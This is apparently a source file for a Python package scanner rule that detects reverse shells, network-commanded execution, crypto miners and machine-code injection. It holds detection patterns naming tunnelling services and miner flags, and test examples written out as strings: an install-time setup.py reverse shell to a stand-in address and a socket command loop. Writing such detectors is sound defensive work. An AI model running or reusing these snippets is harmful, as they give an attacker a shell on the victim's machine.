"""Remote control: a shell on a socket, commands from the network, code in another process."""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import dataclass

from pratique.facts.model import PackageFacts
from pratique.facts.python.model import Argument, Call, Does, PythonFacts, Source
from pratique.facts.python.outside.filling import COMPUTES
from pratique.facts.shell import read_shell
from pratique.finding import Behaviour, Confidence, Finding, Severity
from pratique.rules.claims import claim, command, holds_little, is_aside, when
from pratique.rules.rule import Example, Rule

_ID = "remote-control"
_POOL = re.compile(r"stratum\+(tcp|ssl)://|--donate-level\b|--coin[= ]")
_ADDRESS = re.compile(
    r"(?<![\d.])(?!127\.|10\.|192\.168\.|172\.(1[6-9]|2\d|3[01])\.|0\.)\d{1,3}(\.\d{1,3}){3}(?![\d.])|"
    r"ngrok|serveo|duckdns|\.onion|trycloudflare|localhost\.run"
)
"""An address of nobody's name, outside of private networks (RFC 1918)."""
_RECEIVED = re.compile(r"<[\w.()]{0,200}\brecv")
"""What a socket gave, in a text that is known in part; the word alone may stand in a program of its own."""
_SERVES = (
    "polling",
    ".loop_forever",
    ".loop_start",
    "discord.Client().run",
    ".Bot().run",
    "slack_bolt.App().start",
    ".run_until_disconnected",
    "pyrogram.Client().run",
    ".serve_forever",
    ".handle_request",
    "flask.Flask().run",
    "bottle.run",
    "web.run_app",
    "uvicorn.run",
    "xmlrpc",
)
_ASKED = re.compile(
    r"<(?:flask|bottle|quart|sanic|cherrypy)[\w.]{0,20}\.request\b|<(?:http\.server|socketserver|BaseHTTPServer)\.[\w.]{1,40}Handler\(\)\."
)
"""What somebody asks a server for, in a text that is known in part."""
_MAKES_ROOM = frozenset({"VirtualAlloc", "VirtualProtect", "mmap", "CFUNCTYPE()"})
"""Memory of this process is made to hold code, and called; nothing here puts anything into it."""

_EXECUTES = frozenset({Does.RUN_PROCESS, Does.RUN_CODE})


def _check(facts: PackageFacts) -> Iterator[Finding]:
    small = holds_little(facts)
    for file in facts.python:
        yield from _sockets(file, small=small, aside=is_aside(facts, file.path))
        yield from _injection(file)
        yield from _miners(file)


@dataclass(frozen=True, slots=True)
class _Sockets:
    """Calls of a file that connect to another host, and that put a connection in the place of a stream."""

    connects: tuple[Call, ...]
    dups: tuple[Call, ...]

    def joined(self, call: Call) -> bool:
        """Whether the streams of what a call starts are a connection."""
        named = any("socket" in dup.first.text for dup in self.dups if dup.first is not None)
        together = {c.function for c in self.connects} & {d.function for d in self.dups}
        return (bool(self.connects) and (named or _is_given(call))) or call.function in together


def _is_given(call: Call) -> bool:
    """Whether a connection is handed over as a stream."""
    return any("socket" in a.text for k, a in call.arguments.items() if k in {"stdin", "stdout"})


def _sockets(file: PythonFacts, *, small: bool, aside: bool) -> Iterator[Finding]:
    """What runs for a stranger: whoever asks a server, or the host that this one connects to."""
    serving = next((c for c in file.calls if c.phase.automatic and c.name.endswith(_SERVES)), None)
    sockets = _Sockets(
        connects=tuple(c for c in file.calls if ".connect" in c.name or c.name == "socket.create_connection"),
        dups=tuple(c for c in file.calls if c.name == "os.dup2"),
    )
    for call in file.calls:
        if serving is not None and not call.does.isdisjoint(_EXECUTES) and _is_asked(call):
            message = f"whoever asks has a command run, by a server that starts {when(serving.phase)}"
            whole = _is_all_asked(call)
            yield claim(_ID, Behaviour.EXECUTION, file.path, call, message, severity=Severity.CRITICAL, proven=whole)
        elif Does.RUN_PROCESS in call.does and _obeys(call, sockets):
            yield claim(
                _ID,
                Behaviour.EXECUTION,
                file.path,
                call,
                f"a process obeys another host {when(call.phase)}",
                severity=Severity.HIGH if aside else Severity.CRITICAL,
                confidence=Confidence.LOW if aside else Confidence.HIGH if small else _sure(file, call),
                proven=call.phase.automatic,
            )


def _obeys(call: Call, sockets: _Sockets) -> bool:
    commanded = "recv" in " ".join(t.detail for t in call.taints(Source.NETWORK)) or any(
        _RECEIVED.search(a.text) for k, a in call.arguments.items() if k in {"0", "args"}
    )
    return commanded or sockets.joined(call) or read_shell(command(call)).reverse_shell


def _is_asked(call: Call) -> bool:
    """Whether what runs is what somebody asked the server for: a request's part, or all that a handler was given."""
    given = [a for k, a in call.arguments.items() if k in {"0", "args"}]
    if any(_ASKED.search(a.text) for a in given) or (call.phase.automatic and not given):
        return True
    handled = not call.phase.automatic and all(any(t.source is Source.CALLER for t in a.taints) for a in given)
    return handled and call.name != "open" and all(a.text.startswith("<") for a in given)


def _is_all_asked(call: Call) -> bool:
    """Whether a shell, or Python, gets nothing but what was asked: no command of the server's own around it."""
    given = call.first or call.arguments.get("args")
    return given is not None and _ASKED.match(given.text) is not None and given.text.find(">") == len(given.text) - 1


def _sure(file: PythonFacts, call: Call) -> Confidence:
    """Obeying on demand is a library's business, unless whom to obey stands in the code."""
    if call.phase.automatic or any(_ADDRESS.search(a.text) for c in file.calls for a in _of_connection(c)):
        return Confidence.HIGH
    return Confidence.LOW


def _of_connection(call: Call) -> tuple[Argument, ...]:
    connects = call.name.endswith((".connect", ".create_connection")) or Does.RUN_PROCESS in call.does
    return tuple(call.arguments.values()) if connects else ()


def _miners(file: PythonFacts) -> Iterator[Finding]:
    for call in file.calls:
        if Does.RUN_PROCESS in call.does and call.phase.automatic and _POOL.search(command(call)):
            yield claim(
                _ID,
                Behaviour.EXECUTION,
                file.path,
                call,
                f"a miner is started {when(call.phase)}",
                severity=Severity.CRITICAL,
            )


def _in_memory(call: Call) -> bool:
    """Whether memory is made to hold code, or an address is called as a function."""
    texts = [a.text for a in call.arguments.values()]
    if call.name == "mmap.mmap":
        return "PROT_EXEC" in call.code
    return call.name != "ctypes.CFUNCTYPE()" or any("<ctypes." in text or text.isdecimal() for text in texts)


def _only_computes(file: PythonFacts, natives: set[str]) -> bool:
    """Whether all that is put into memory asks the processor something, calls nothing and returns."""
    filled = [c for c in file.calls if Does.FILL in c.does]
    return (
        natives <= _MAKES_ROOM
        and bool(filled)
        and all(any(a.text == COMPUTES for a in c.arguments.values()) for c in filled)
    )


def _injection(file: PythonFacts) -> Iterator[Finding]:
    natives = [c for c in file.calls if Does.NATIVE in c.does and _in_memory(c)]
    kinds = {c.name.rpartition(".")[2] for c in natives}
    if len(kinds) >= 2 and not _only_computes(file, kinds):
        call = natives[0]
        yield claim(
            _ID,
            Behaviour.EXECUTION,
            file.path,
            call,
            f"machine code is put into memory and run {when(call.phase)}",
            severity=Severity.CRITICAL,
            confidence=Confidence.HIGH if call.phase.automatic else Confidence.LOW,
            proven=call.phase.automatic,
        )


RULE = Rule(
    id=_ID,
    behaviour=Behaviour.EXECUTION,
    summary="A shell is tied to a socket, commands come from the network, or machine code is injected.",
    gain="The attacker works on the machine as its user.",
    honest="Remote-control and debugging libraries do this when they are called, at an address that the caller gives.",
    blocks="When it happens by itself: while the package is installed, whenever Python starts, or when it is imported.",
    check=_check,
    loud=(
        Example(
            title="a reverse shell at install, by alias",
            files={
                "setup.py": "import socket as s, os, subprocess as p\nc = s.socket()\nc.connect(('192.0.2.1', 4444))\n"
                "os.dup2(c.fileno(), 0)\np.call(['/bin/sh', '-i'])\n"
            },
        ),
        Example(
            title="commands in a loop, through __import__",
            files={
                "pkg/__init__.py": "s = __import__('socket').socket()\ns.connect(('192.0.2.1', 1))\nwhile True:\n"
                "    s.send(__import__('subprocess').check_output(s.recv(1024), shell=True))\n"
            },
        ),
    ),
    quiet=(
        Example(
            title="a client that reads a banner",
            files={
                "pkg/__init__.py": "import socket\ndef banner(h):\n    s = socket.create_connection((h, 22))\n    return s.recv(64)\n"
            },
        ),
    ),
)
